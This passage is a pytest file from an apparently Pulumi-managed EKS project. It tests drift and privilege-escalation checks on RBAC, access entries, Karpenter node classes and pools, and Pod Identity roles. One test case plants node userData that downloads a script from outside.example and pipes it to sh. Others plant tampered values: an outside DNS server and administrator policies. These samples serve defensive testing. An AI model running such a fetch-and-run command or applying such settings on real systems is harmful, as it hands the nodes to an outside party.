    _bound_to_preview(cluster, "volumes", {"apiGroups": [""], "resources": ["persistentvolumes"], "verbs": ["list"]})
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and "may list persistentvolumes cluster-wide" in outcome.evidence


def test_a_cluster_role_without_the_programs_volumes_fails_naming_the_volume_the_preview_cannot_get(ctx, cluster, plan):
    role = cluster.get(f"/apis/rbac.authorization.k8s.io/v1/clusterroles/{names.PREVIEW_GROUP}")
    cluster.put({**role, "rules": [r for r in role["rules"] if "resourceNames" not in r]})
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and "may not get persistentvolumes/" in outcome.evidence


def test_a_binding_to_the_preview_roles_own_user_that_reads_secrets_fails(ctx, cluster, plan):
    """EKS names the preview role's requests' user after its session (arn:aws:sts::ACCOUNT:assumed-role/ROLE/
    {{SessionName}}), and preview.yml's configure-aws-credentials names every session GitHubActions: a binding to that
    User is every pull request's preview's."""
    role = names.role_name(STACK, "preview")
    user = f"arn:aws:sts::{plan.config.delivery.account_id}:assumed-role/{role}/GitHubActions"
    cluster.put(
        {
            "apiVersion": f"{RBAC}/v1",
            "kind": "ClusterRole",
            "metadata": {"name": "by-user"},
            "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
        }
    )
    cluster.put(
        {
            "apiVersion": f"{RBAC}/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": "by-user"},
            "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "by-user"},
            "subjects": [{"apiGroup": RBAC, "kind": "User", "name": user}],
        }
    )
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and "may get secrets cluster-wide" in outcome.evidence


def test_a_binding_to_the_preview_roles_user_of_a_session_a_pull_request_names_fails_naming_the_binding(
    ctx, cluster, plan
):
    """preview.yml comes from the pull request (its role trusts job_workflow_ref preview.yml@refs/pull/*/merge), so
    the pull request names its session (configure-aws-credentials' role-session-name), and with it its user: a
    binding to any session of the preview role is a pull request's."""
    role = names.role_name(STACK, "preview")
    user = f"arn:aws:sts::{plan.config.delivery.account_id}:assumed-role/{role}/chosen-by-a-pull-request"
    cluster.put(
        {
            "apiVersion": f"{RBAC}/v1",
            "kind": "RoleBinding",
            "metadata": {"name": "by-session", "namespace": "llm"},
            "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "view"},
            "subjects": [{"apiGroup": RBAC, "kind": "User", "name": user}],
        }
    )
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and f"{user} is a subject of RoleBinding llm/by-session" in outcome.evidence


# --- the CI preview role's access entry ----------------------------------------------------------------------------


def _preview_entry_answered(
    aws_ctx, plan, groups: list[str], policies: list[dict], username: str = "{{SessionName}}"
) -> None:
    """DescribeAccessEntry and ListAssociatedAccessPolicies of the preview role's entry, in botocore's eks shapes
    (accessEntry.kubernetesGroups, username; associatedAccessPolicies[].policyArn, accessScope); `username` the
    session's part of EKS's default, unless it has a colon."""
    account, role_name = plan.config.delivery.account_id, names.role_name(STACK, "preview")
    role = f"arn:aws:iam::{account}:role/{role_name}"
    user = username if ":" in username else names.assumed_role_user(account, role_name, username)
    stub, asked = _stubbed(aws_ctx, "eks"), {"clusterName": CLUSTER, "principalArn": role}
    entry = {
        "clusterName": CLUSTER,
        "principalArn": role,
        "kubernetesGroups": groups,
        "type": "STANDARD",
        "username": user,
    }
    stub.add_response("describe_access_entry", {"accessEntry": entry}, asked)
    answer = {"clusterName": CLUSTER, "principalArn": role, "associatedAccessPolicies": policies}
    stub.add_response("list_associated_access_policies", answer, asked)


def test_the_preview_roles_entry_in_its_group_alone_without_access_policies_passes(aws_ctx, plan):
    _preview_entry_answered(aws_ctx, plan, [names.PREVIEW_GROUP], [])
    outcome = one("aws.preview-entry", aws_ctx)
    assert outcome.status == "PASS", outcome.evidence


def test_an_access_policy_associated_with_the_preview_roles_entry_fails_naming_it(aws_ctx, plan):
    """AmazonEKSAdminViewPolicy reads every Secret: EKS authorizes it by the entry, not the group, so the preview
    group's SubjectAccessReviews (kube.preview-access) never see it."""
    view = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSAdminViewPolicy"
    _preview_entry_answered(
        aws_ctx, plan, [names.PREVIEW_GROUP], [{"policyArn": view, "accessScope": {"type": "cluster"}}]
    )
    outcome = one("aws.preview-entry", aws_ctx)
    assert outcome.status == "FAIL" and "AmazonEKSAdminViewPolicy" in outcome.evidence


def test_a_teams_group_added_to_the_preview_roles_entry_fails_naming_it(aws_ctx, plan):
    """A pull request's preview in a team's group has the team's rights; kube.preview-access asks as the preview group
    alone."""
    team = team_group(plan.config.scheduler.teams[0].name)
    _preview_entry_answered(aws_ctx, plan, [names.PREVIEW_GROUP, team], [])
    outcome = one("aws.preview-entry", aws_ctx)
    assert outcome.status == "FAIL" and team in outcome.evidence


def test_a_username_set_on_the_preview_roles_entry_fails_naming_it(aws_ctx, plan):
    """A username not EKS's default (the role's session) makes the preview whoever that user is bound as."""
    _preview_entry_answered(aws_ctx, plan, [names.PREVIEW_GROUP], [], username="ops:someone")
    outcome = one("aws.preview-entry", aws_ctx)
    assert outcome.status == "FAIL" and "ops:someone" in outcome.evidence


# --- the cluster's access entries and the node role's trust --------------------------------------------------------


class _WithAccessEntries:
    """The check's EKS client: moto's for the cluster and its node groups, a Stubber's for the access entries moto does
    not keep (ListAccessEntries, DescribeAccessEntry: botocore's eks shapes, checked by the Stubber)."""

    STUBBED = ("list_access_entries", "describe_access_entry")

    def __init__(self, moto_client, stubbed_client):
        self._moto, self._stubbed = moto_client, stubbed_client

    def __getattr__(self, name):
        return getattr(self._stubbed if name in self.STUBBED else self._moto, name)

    def get_paginator(self, operation):
        return (self._stubbed if operation in self.STUBBED else self._moto).get_paginator(operation)


def _entry(arn: str, at: datetime.datetime, kind: str = "STANDARD") -> dict:
    return {"clusterName": CLUSTER, "principalArn": arn, "type": kind, "createdAt": at}


def _access_answered(aws_ctx, aws, plan, *extra: dict, trust: dict | None = None) -> None:
    """The cluster's access as the first `pulumi up` leaves it, and `extra` entries: the creator's (made with the
    cluster, before the node groups moto made just now), the admins' and the CI roles' (after them: pulumi-eks's and
    Delivery's), the node role's (EKS's, EC2_LINUX); the node role in moto's IAM with the plan's trust, or `trust`."""
    creator = _entry("arn:aws:iam::123456789012:role/Bootstrap", NOW - datetime.timedelta(days=30))
    later = datetime.datetime.now(datetime.UTC) + datetime.timedelta(minutes=1)
    planned = sorted(checks._planned_principals(plan.config))
    entries = [creator, *(_entry(a, later) for a in planned), _entry(NODE_ROLE, later, "EC2_LINUX"), *extra]
    client = boto3.client("eks", region_name=REGION, aws_access_key_id="x", aws_secret_access_key="x")
    stub = Stubber(client)
    stub.add_response("list_access_entries", {"accessEntries": [e["principalArn"] for e in entries]})
    for e in entries:
        asked = {"clusterName": CLUSTER, "principalArn": e["principalArn"]}
        stub.add_response("describe_access_entry", {"accessEntry": e}, asked)
    stub.activate()
    aws_ctx.clients["eks"] = _WithAccessEntries(aws_ctx.client("eks"), client)
    # the node role as `pulumi up` makes it (components/nodes.py NodeRole), with the plan's trust or `trust`
    document = json.dumps(trust) if trust else checks._planned_node_trust(checks._planned_node_role(aws_ctx))[0]
    (planned,) = [r for r in plan.of_type(checks.IAM_ROLE) if f"{checks.NODE_ROLE}::" in (r.parent or "")]
    _role_as_planned(aws.client("iam"), plan, planned, NODE_ROLE.rpartition("/")[2], document)


def _role_as_planned(iam, plan, planned, name: str, trust: str | None = None, computed: str | None = None) -> None:
    """The plan's role `planned` in moto as `pulumi up` makes it, named `name`: `trust` (the plan's by default), the
    stack's boundary, its inline policies as pulumi-aws sends them (`computed` for one the plan computes at deploy),
    and the AWS managed policies it attaches (put in moto's account from moto's own snapshot of their documents, not
    all of them loaded)."""
    boundary = f"arn:aws:iam::123456789012:policy/{names.boundary_name(STACK)}"
    document = trust or planned.inputs["assumeRolePolicy"]
    iam.create_role(RoleName=name, AssumeRolePolicyDocument=document, PermissionsBoundary=boundary)
    for r in plan.resources:
        if planned.urn in (r.dependencies or ()) and r.type == checks.ROLE_POLICY:
            document = _as_pulumi_aws_sends(computed if r.inputs["policy"] == COMPUTED else r.inputs["policy"])
            iam.put_role_policy(RoleName=name, PolicyName=f"{r.name}-0a1b2c3", PolicyDocument=document)
        elif planned.urn in (r.dependencies or ()) and r.type == checks.ROLE_POLICY_ATTACHMENT:
            _aws_managed_policy(r.inputs["policyArn"])
            iam.attach_role_policy(RoleName=name, PolicyArn=r.inputs["policyArn"])


def test_the_planned_entries_the_node_roles_and_the_creators_pass(aws_ctx, aws, plan):
    _access_answered(aws_ctx, aws, plan)
    outcome = one("aws.cluster-access", aws_ctx)
    assert outcome.status == "PASS", outcome.evidence
    assert "the creator's (arn:aws:iam::123456789012:role/Bootstrap)" in outcome.evidence


def test_a_node_entry_for_the_role_of_a_group_the_plan_does_not_make_fails_naming_both(aws_ctx, aws, plan):
    aws.client("eks").create_nodegroup(clusterName=CLUSTER, nodegroupName="front", nodeRole=FRONT_ROLE, subnets=["s"])
    _access_answered(aws_ctx, aws, plan, _entry(FRONT_ROLE, NOW, "EC2_LINUX"))
    outcome = one("aws.cluster-access", aws_ctx)
    assert outcome.status == "FAIL" and (
        f"{FRONT_ROLE}: an entry (EC2_LINUX) the plan does not make (the node role of group front" in outcome.evidence
    )
    assert f"aws eks delete-access-entry --cluster-name {CLUSTER} --principal-arn ARN" in outcome.fix


def test_a_standard_entry_made_after_the_node_groups_is_not_taken_for_the_creators(aws_ctx, aws, plan):
    stranger = "arn:aws:iam::111122223333:role/Contractor"
    _access_answered(aws_ctx, aws, plan, _entry(stranger, datetime.datetime.now(datetime.UTC)))
    outcome = one("aws.cluster-access", aws_ctx)
    assert outcome.status == "FAIL" and f"{stranger}: an entry (STANDARD) the plan does not make" in outcome.evidence
    assert "Bootstrap" not in outcome.evidence


def test_a_node_role_that_also_trusts_another_account_fails_naming_it(aws_ctx, aws, plan):
    ec2 = {"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}
    other = {"Effect": "Allow", "Principal": {"AWS": OTHER_ACCOUNT}, "Action": "sts:AssumeRole"}
    _access_answered(aws_ctx, aws, plan, trust={"Version": "2012-10-17", "Statement": [ec2, other]})
    outcome = one("aws.cluster-access", aws_ctx)
    assert outcome.status == "FAIL" and f"the node role {NODE_ROLE} trusts AWS {OTHER_ACCOUNT}" in outcome.evidence
    assert "aws iam update-assume-role-policy --role-name ROLE" in outcome.fix


# --- kube.node-classes: Karpenter's EC2NodeClasses as planned ---------------------------------------


@pytest.fixture
def classes_ctx(karpenter_plan, tmp_path, monkeypatch):
    """A cluster holding the Karpenter plan's EC2NodeClasses and NodePools as `pulumi up` left them."""
    fake = FakeKubernetesApi()
    for planned in karpenter_plan.resources:
        if planned.inputs.get("kind") in ("EC2NodeClass", "NodePool"):
            fake.put(copy.deepcopy(planned.inputs))
    monkeypatch.setenv("KUBECONFIG", kubeconfig(tmp_path / "kubeconfig", fake.url))
    yield fake, connect.Context(STACK, karpenter_plan, None, kube_client(), now=lambda: NOW)
    fake.close()


def _node_class(fake: FakeKubernetesApi) -> dict:
    (name,) = [key[-1] for key in fake.objects if key[2] == "ec2nodeclasses"]
    return fake.get(f"/apis/karpenter.k8s.aws/v1/ec2nodeclasses/{name}")


def test_node_classes_as_planned_pass(classes_ctx):
    _, ctx = classes_ctx
    outcome = one("kube.node-classes", ctx)
    assert outcome.status == "PASS" and "1 EC2NodeClass(es) as planned" in outcome.evidence, outcome


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("userData", "#!/bin/bash\ncurl -s https://outside.example/agent | sh\n"),
        ("amiSelectorTerms", [{"id": "ami-0123456789abcdef0"}]),
        ("instanceProfile", "someone-elses-profile"),
        ("metadataOptions", {"httpEndpoint": "enabled", "httpTokens": "optional", "httpPutResponseHopLimit": 2}),
        ("associatePublicIPAddress", True),
        # the root volume unencrypted, or made from someone's snapshot: another image under the planned AMI's name
        ("blockDeviceMappings", [{"deviceName": "/dev/xvda", "ebs": {"volumeSize": "200Gi", "encrypted": False}}]),
        ("blockDeviceMappings", [{"deviceName": "/dev/xvda", "ebs": {"snapshotID": "snap-0123456789abcdef0"}}]),
        ("kubelet", {"clusterDNS": ["203.0.113.53"]}),  # every pod's DNS answered by someone else's server
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 30 else None,
)
def test_a_node_class_booting_other_than_planned_fails_naming_the_field(classes_ctx, field, value):
    """The deploy role is cluster admin: an edited class boots its nodes on the node role, seen by no AWS check."""
    fake, ctx = classes_ctx
    node_class = _node_class(fake)
    node_class["spec"][field] = value
    fake.put(node_class)
    outcome = one("kube.node-classes", ctx)
    assert outcome.status == "FAIL" and f"gpu-h100: {field}" in outcome.evidence, outcome
    assert "not as planned" in outcome.evidence


def test_a_node_class_the_plan_does_not_make_fails_naming_it(classes_ctx):
    fake, ctx = classes_ctx
    extra = copy.deepcopy(_node_class(fake))
    extra["metadata"] = {"name": "gpu-extra"}
    fake.put(extra)
    outcome = one("kube.node-classes", ctx)
    assert outcome.status == "FAIL" and "gpu-extra: not planned" in outcome.evidence, outcome


# --- aws.pod-identities: who gets AWS credentials through Pod Identity -----------------------------

ADDON_ARN = f"arn:aws:eks:{REGION}:123456789012:addon/{CLUSTER}/{{}}/0a1b"
# prod's associations as the first `pulumi up` leaves them: the Cluster Autoscaler's, and the add-ons' own (EKS owns
# those by the add-on; their namespaces are the add-ons')
PLANNED_IDENTITIES = [
    ("kube-system", "cluster-autoscaler", None),
    ("kube-system", "ebs-csi-controller-sa", "aws-ebs-csi-driver"),
    ("amazon-cloudwatch", "cloudwatch-agent", "amazon-cloudwatch-observability"),
    ("kube-system", "fsx-csi-controller-sa", "aws-fsx-csi-driver"),
]


def _identities(
    aws_ctx, aws, extra: list[tuple[str, str, str | None]] = (), karpenter: str | None = None, **changes
) -> None:
    """The cluster's associations answered on the wire (moto has no Pod Identity), each to a role in moto trusting
    its own service account (components/identity.py pod_identity_trust); `changes` go into every description. With
    `karpenter` (its role's policy document), Karpenter's too, and the node groups its check then reads."""
    from components.identity import pod_identity_trust

    iam, stub = aws.client("iam"), _stubbed(aws_ctx, "eks")
    every = [*PLANNED_IDENTITIES, *([KARPENTER_IDENTITY] if karpenter else []), *extra]
    summaries, described = [], []
    for index, (namespace, account, addon) in enumerate(every):
        planned = (namespace, account, addon) in [*PLANNED_IDENTITIES, KARPENTER_IDENTITY]
        role = f"higgsfield-prod-{account}" if planned else f"higgsfield-prod-{namespace}-{account}"
        if planned:  # the plan's role for that service account, trusting it
            (as_planned,) = [
                r
                for r in aws_ctx.plan.of_type(checks.IAM_ROLE)
                if f'"{namespace}"' in r.inputs["assumeRolePolicy"] and f'"{account}"' in r.inputs["assumeRolePolicy"]
            ]
            trust = pod_identity_trust(CLUSTER, namespace, account)
            _role_as_planned(iam, aws_ctx.plan, as_planned, role, trust, karpenter)
        else:
            iam.create_role(
                RoleName=role,
                AssumeRolePolicyDocument=pod_identity_trust(CLUSTER, namespace, account),
                PermissionsBoundary=f"arn:aws:iam::123456789012:policy/{names.boundary_name(STACK)}",
            )
        ident = {
            "clusterName": CLUSTER,
            "namespace": namespace,
            "serviceAccount": account,
            "associationId": f"a-{index}",
            "associationArn": f"arn:aws:eks:{REGION}:123456789012:podidentityassociation/{CLUSTER}/a-{index}",
        }
        ident |= {"ownerArn": ADDON_ARN.format(addon)} if addon else {}
        summaries.append(ident)
        described.append({**ident, "roleArn": f"arn:aws:iam::123456789012:role/{role}", **changes})
    stub.add_response("list_pod_identity_associations", {"associations": summaries}, {"clusterName": CLUSTER})
    for ident in described:
        stub.add_response(
            "describe_pod_identity_association",
            {"association": ident},
            {"clusterName": CLUSTER, "associationId": ident["associationId"]},
        )
        if (ident["namespace"], ident["serviceAccount"], None) == KARPENTER_IDENTITY:  # the node role, read once
            groups = [r.name for r in aws_ctx.plan.of_type(checks.NODE_GROUP)]
            stub.add_response("list_nodegroups", {"nodegroups": groups}, {"clusterName": CLUSTER})
            for group in groups:
                asked = {"clusterName": CLUSTER, "nodegroupName": group}
                stub.add_response(
                    "describe_nodegroup", {"nodegroup": {"nodegroupName": group, "nodeRole": NODE_ROLE}}, asked
                )


def _as_pulumi_aws_sends(document: str) -> str:
    """A policy document as pulumi-aws puts it: re-serialized with its keys sorted, without whitespace, Version first
    (LegacyPolicyNormalize, hashicorp/terraform-provider-aws:internal/verify/json.go@
    529284fb0bb1ef9cc4933007ec0857f538bb22df), never the program's text."""
    parsed = json.loads(json.dumps(json.loads(document), sort_keys=True))
    return json.dumps({"Version": parsed.pop("Version"), **parsed}, separators=(",", ":"))


def _aws_managed_policy(arn: str) -> None:
    """AWS's managed policy `arn` in moto's account, from moto's snapshot of its document (moto/iam/models.py@5.2.6
    _init_aws_policies loads all of them, about a second, when asked)."""
    from moto.backends import get_backend
    from moto.iam.models import AWSManagedPolicy

    backend = get_backend("iam")[DEFAULT_ACCOUNT_ID]["global"]
    name = arn.rpartition("/")[2]
    data = _aws_managed_policies()[name]
    backend.managed_policies[arn] = AWSManagedPolicy.from_data(name, DEFAULT_ACCOUNT_ID, "global", data)


@functools.cache
def _aws_managed_policies() -> dict:
    """moto's snapshot of AWS's managed policies, parsed once a process (5 MB of JSON: about 45 ms a parse)."""
    from moto.iam.aws_managed_policies import aws_managed_policies_data

    return json.loads(aws_managed_policies_data)


KARPENTER_IDENTITY = ("kube-system", "karpenter", None)


def _karpenter_document(**replaced: str) -> dict:
    """Karpenter's controller policy as `pulumi up` computes it for this account (components/karpenter.py), with
    `replaced` arguments."""
    from components.karpenter import karpenter_policy

    queue = f"arn:aws:sqs:{REGION}:123456789012:{names.interruption_queue(STACK)}"
    given = {"node_role_arn": NODE_ROLE, "queue_arn": queue, **replaced}
    return json.loads(karpenter_policy(CLUSTER, REGION, "123456789012", given["node_role_arn"], given["queue_arn"]))


def test_karpenters_role_with_the_policy_the_program_computes_passes(aws_ctx, aws, karpenter_plan):
    aws_ctx.plan = karpenter_plan
    _identities(aws_ctx, aws, karpenter=json.dumps(_karpenter_document()))
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "PASS" and "5 Pod Identity association(s)" in outcome.evidence, outcome


def test_karpenters_role_passing_another_role_to_its_nodes_fails(aws_ctx, aws, karpenter_plan):
    """Its policy, computed at deploy, was counted, not read: the deploy role could rewrite it to pass any role of the
    account to the instances Karpenter launches (an admin's, say), and every such node acted with it."""
    aws_ctx.plan = karpenter_plan
    admin = "arn:aws:iam::123456789012:role/Administrator"
    _identities(aws_ctx, aws, karpenter=json.dumps(_karpenter_document(node_role_arn=admin)))
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and "kube-system/karpenter: role higgsfield-prod-karpenter: inline policy" in (
        outcome.evidence
    ), outcome
    assert "a planned inline policy missing" in outcome.evidence


def test_karpenters_role_reading_another_queue_fails(aws_ctx, aws, karpenter_plan):
    aws_ctx.plan = karpenter_plan
    other = f"arn:aws:sqs:{REGION}:999999999999:outside"
    _identities(aws_ctx, aws, karpenter=json.dumps(_karpenter_document(queue_arn=other)))
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and "not as planned" in outcome.evidence, outcome


def test_the_programs_pod_identities_pass(aws_ctx, aws):
    _identities(aws_ctx, aws)
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "PASS" and "4 Pod Identity association(s)" in outcome.evidence, outcome


def test_a_teams_service_account_given_a_role_fails_naming_it(aws_ctx, aws):
    """The deploy role may associate any service account of its cluster with a role of its own: a team's pods would
    get its credentials."""
    _identities(aws_ctx, aws, extra=[("llm", "default", None)])
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and "llm/default: an association the plan does not make" in outcome.evidence


def test_a_planned_association_to_a_role_with_an_inline_policy_of_its_own_fails_naming_it(aws_ctx, aws):
    """A role of the deploy role's making, trusting the Cluster Autoscaler's service account alone as the plan's does,
    with rights the plan never gives it: the trust check alone passed it."""
    _identities(aws_ctx, aws)
    anything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
    aws.client("iam").put_role_policy(
        RoleName="higgsfield-prod-cluster-autoscaler", PolicyName="extra", PolicyDocument=json.dumps(anything)
    )
    outcome = one("aws.pod-identities", aws_ctx)
    said = "kube-system/cluster-autoscaler: role higgsfield-prod-cluster-autoscaler: inline policy extra not as planned"
    assert outcome.status == "FAIL" and said in outcome.evidence, outcome


def test_a_planned_association_to_a_role_with_a_managed_policy_the_plan_does_not_attach_fails(aws_ctx, aws):
    _identities(aws_ctx, aws)
    admin = "arn:aws:iam::aws:policy/AdministratorAccess"
    _aws_managed_policy(admin)
    aws.client("iam").attach_role_policy(RoleName="higgsfield-prod-ebs-csi-controller-sa", PolicyArn=admin)
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and f"attached {admin}, which the plan does not attach" in outcome.evidence


def test_a_planned_association_to_a_role_without_the_stacks_boundary_fails(aws_ctx, aws):
    _identities(aws_ctx, aws)
    aws.client("iam").delete_role_permissions_boundary(RoleName="higgsfield-prod-fsx-csi-controller-sa")
    outcome = one("aws.pod-identities", aws_ctx)
    said = f"permissions boundary none, where the plan sets policy/{names.boundary_name(STACK)}"
    assert outcome.status == "FAIL" and said in outcome.evidence, outcome


def test_a_planned_association_to_a_role_whose_planned_policy_was_changed_fails(aws_ctx, aws):
    _identities(aws_ctx, aws)
    iam = aws.client("iam")
    (policy,) = iam.list_role_policies(RoleName="higgsfield-prod-cluster-autoscaler")["PolicyNames"]
    wider = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "ec2:*", "Resource": "*"}]}
    iam.put_role_policy(
        RoleName="higgsfield-prod-cluster-autoscaler", PolicyName=policy, PolicyDocument=json.dumps(wider)
    )
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and f"inline policy {policy} not as planned" in outcome.evidence
    assert "a planned inline policy missing" in outcome.evidence


def test_an_addon_association_the_plan_does_not_give_the_addon_fails(aws_ctx, aws):
    _identities(aws_ctx, aws, extra=[("llm", "trainer", "aws-ebs-csi-driver")])
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and "llm/trainer: made by add-on aws-ebs-csi-driver" in outcome.evidence


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"targetRoleArn": "arn:aws:iam::999999999999:role/outside"}, "chains into target role"),
        ({"disableSessionTags": True}, "session tags off"),
    ],
    ids=["target-role", "no-session-tags"],
)
def test_an_association_that_chains_or_drops_its_tags_fails(aws_ctx, aws, changes, said):
    _identities(aws_ctx, aws, **changes)
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and f"kube-system/cluster-autoscaler: {said}" in outcome.evidence, outcome


def test_a_planned_association_to_a_role_trusting_any_service_account_fails(aws_ctx, aws):
    _identities(aws_ctx, aws)
    loose = {
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Principal": {"Service": "pods.eks.amazonaws.com"}, "Action": "sts:AssumeRole"}
        ],
    }
    aws.client("iam").update_assume_role_policy(
        RoleName="higgsfield-prod-cluster-autoscaler", PolicyDocument=json.dumps(loose)
    )
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and "role higgsfield-prod-cluster-autoscaler does not trust" in outcome.evidence


def test_a_node_class_naming_another_subnet_by_tag_fails(classes_ctx):
    """An ID the plan knows only after deploy matches any one ID, not a selector of another shape."""
    fake, ctx = classes_ctx
    node_class = _node_class(fake)
    node_class["spec"]["subnetSelectorTerms"] = [{"tags": {"kubernetes.io/role/elb": "1"}}]
    fake.put(node_class)
    outcome = one("kube.node-classes", ctx)
    assert outcome.status == "FAIL" and "gpu-h100: subnetSelectorTerms not as planned" in outcome.evidence, outcome


# --- kube.node-pools: Karpenter's NodePools as planned -----------------------------------------------


def _node_pool(fake: FakeKubernetesApi) -> dict:
    return fake.get("/apis/karpenter.sh/v1/nodepools/gpu-h100")


def test_node_pools_as_planned_pass(classes_ctx):
    _, ctx = classes_ctx
    outcome = one("kube.node-pools", ctx)
    assert outcome.status == "PASS" and "1 NodePool(s) as planned" in outcome.evidence, outcome


def _claim(fake: FakeKubernetesApi, name: str, pool: str | None = "gpu-h100", **spec) -> None:
    """A NodeClaim as Karpenter makes one of the planned pool (its name label, class, taints and startup taints),
    with `spec` changed."""
    template = _node_pool(fake)["spec"]["template"]["spec"]
    labels = {"karpenter.sh/nodepool": pool} if pool else {}
    claimed = {k: template[k] for k in ("nodeClassRef", "taints", "startupTaints", "requirements")}
    fake.put(
        {
            "apiVersion": "karpenter.sh/v1",
            "kind": "NodeClaim",
            "metadata": {"name": name, "labels": labels},
            "spec": {**claimed, **spec},
        }
    )


def test_the_claims_karpenter_makes_of_a_planned_pool_pass(classes_ctx):
    fake, ctx = classes_ctx
    _claim(fake, "gpu-h100-abcde")
    outcome = one("kube.node-pools", ctx)
    assert outcome.status == "PASS" and "every NodeClaim one of theirs" in outcome.evidence, outcome


@pytest.mark.parametrize(
    ("pool", "spec", "said"),
    [
        ("gpu-h100", {"startupTaints": []}, "startupTaints not its NodePool gpu-h100's"),
        ("gpu-h100", {"taints": []}, "taints not its NodePool gpu-h100's"),
        (None, {}, "of no planned NodePool (no karpenter.sh/nodepool label)"),
        (
            "gpu-h100",
            {
                "requirements": [
                    {"key": "node.kubernetes.io/instance-type", "operator": "In", "values": ["p5en.48xlarge"]}
                ]
            },
            "requirement node.kubernetes.io/instance-type",
        ),
    ],
    ids=["no-startup-taint", "no-gpu-taint", "of-no-pool", "another-type"],
)
def test_a_claim_written_beside_the_pools_fails_naming_it(classes_ctx, pool, spec, said):
    """Karpenter launches any NodeClaim of an EC2NodeClass, a pool's or not: the deploy role's own on the planned
    class is a GPU node the health gate never holds, and every NodePool is as planned."""
    fake, ctx = classes_ctx
    _claim(fake, "gpu-h100-rogue", pool, **spec)
    outcome = one("kube.node-pools", ctx)
    assert outcome.status == "FAIL" and f"NodeClaim gpu-h100-rogue: {said}" in outcome.evidence, outcome


def test_a_node_pool_the_plan_does_not_make_on_a_planned_class_fails_naming_it(classes_ctx):
    """The deploy role is cluster admin: a pool of its own on the planned class launches GPU nodes of the node role
    without the health gate's startup taint or the GPU taint, and kube.node-classes still passes."""
    fake, ctx = classes_ctx
    rogue = copy.deepcopy(_node_pool(fake))
    rogue["metadata"] = {"name": "gpu-ungated"}
    del rogue["spec"]["template"]["spec"]["startupTaints"], rogue["spec"]["template"]["spec"]["taints"]
    fake.put(rogue)
    assert one("kube.node-classes", ctx).status == "PASS"
    outcome = one("kube.node-pools", ctx)
    assert outcome.status == "FAIL" and "gpu-ungated: not planned" in outcome.evidence, outcome
    assert "kubectl delete nodepool NAME" in outcome.fix


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("template", "spec", "startupTaints"), []),  # nodes taken before the health gate checked them
        (("template", "spec", "taints"), []),  # any team's pods on the GPU nodes
        (("limits", "nvidia.com/gpu"), "100000"),
        (("disruption", "budgets"), [{"nodes": "100%"}]),  # underutilized nodes taken from running jobs
    ],
    ids=lambda v: ".".join(v) if isinstance(v, tuple) else None,
)
def test_a_node_pool_other_than_planned_fails_naming_the_field(classes_ctx, path, value):
    fake, ctx = classes_ctx
    pool = _node_pool(fake)
    functools.reduce(lambda d, k: d[k], path[:-1], pool["spec"])[path[-1]] = value
    fake.put(pool)
    outcome = one("kube.node-pools", ctx)
    assert outcome.status == "FAIL" and f"gpu-h100: {'.'.join(path)} not as planned" in outcome.evidence, outcome


# --- aws.node-claim-creators: who made each NodeClaim, from the API server's audit log -----------------


def audit_record(
    who: str, verb: str = "create", code: int = 201, uri: str = "/apis/karpenter.sh/v1/nodeclaims", **more: Any
) -> dict:
    """A request as EKS's audit log records it: an audit.k8s.io/v1 Event at Metadata level (no object, so no name for
    a generateName create), a NodeClaim create unless told otherwise (`audit_id`, `user` and `ref` extend its
    parts; any other key is the event's own)."""
    return {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": more.pop("audit_id", "a1"),
        "stage": "ResponseComplete",
        "requestURI": uri,
        "verb": verb,
        "user": {"username": who, "groups": ["system:authenticated"], **more.pop("user", {})},
        "objectRef": {"resource": "nodeclaims", "apiGroup": "karpenter.sh", "apiVersion": "v1", **more.pop("ref", {})},
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": "2026-12-05T08:30:00.000000Z",
        **more,
    }


def _audit(user: str, code: int = 201, uri: str = "/apis/karpenter.sh/v1/nodeclaims", audit_id: str = "a1") -> dict:
    """A NodeClaim create's record as one event of a kube-apiserver-audit-* stream."""
    record = audit_record(user, code=code, uri=uri, audit_id=audit_id)
    return {"logStreamName": "kube-apiserver-audit-0123", "timestamp": 1, "message": json.dumps(record), "eventId": "e"}


DEPLOY_SESSION = f"arn:aws:sts::{DEFAULT_ACCOUNT_ID}:assumed-role/higgsfield-prod-deploy/GitHubActions"
HOUR_AGO = NOW - datetime.timedelta(hours=1)


def _claims(aws_ctx, launches: list[datetime.datetime], events: list[dict] | None = None, since=None) -> None:
    """Karpenter's instances of the cluster launched at `launches` (EC2 and the audit log answered by Stubbers in
    AWS's wire shapes: moto launches at the wall clock and reads no JSON filter pattern), and the audit log's claim
    creates since `since` (an hour before the oldest launch by default), and no token of Karpenter's account asked, no
    pod, workload or exec of that account's, no Secret-based token of it used."""
    instances = [{"InstanceId": f"i-{n:017x}", "LaunchTime": t} for n, t in enumerate(launches)]
    _stubbed(aws_ctx, "ec2").add_response(
